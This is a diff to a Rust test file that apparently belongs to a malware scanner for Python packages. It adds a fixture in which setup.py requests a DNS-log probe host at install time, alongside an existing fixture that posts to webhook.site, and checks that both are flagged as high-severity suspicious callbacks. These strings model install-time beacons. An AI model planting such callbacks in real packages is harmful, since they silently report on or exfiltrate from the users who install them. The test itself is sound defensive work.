@@ -1169,6 +1169,9 @@ fn a_callback_to_a_suspicious_host_at_install_or_import_is_a_beacon() {
     let webhook_at_install = "import requests\nfrom setuptools import setup\n\
                               requests.post('https://webhook.site/00000000-0000', data={'p': 'x'})\nsetup(name='x')\n";
     assert_eq!(severity_of("setup.py", webhook_at_install, "suspicious-callback"), Some(Severity::High));
+    let dns_log =
+        "import requests\nfrom setuptools import setup\nrequests.get('https://x1.probe.eyes.sh/')\nsetup(name='x')\n";
+    assert_eq!(severity_of("setup.py", dns_log, "suspicious-callback"), Some(Severity::High));
     // Asked for: a tool's function that posts to a webhook its user reads.
     let on_request =
         "import requests\ndef notify(msg):\n    requests.post('https://webhook.site/00000000-0000', data=msg)\n";
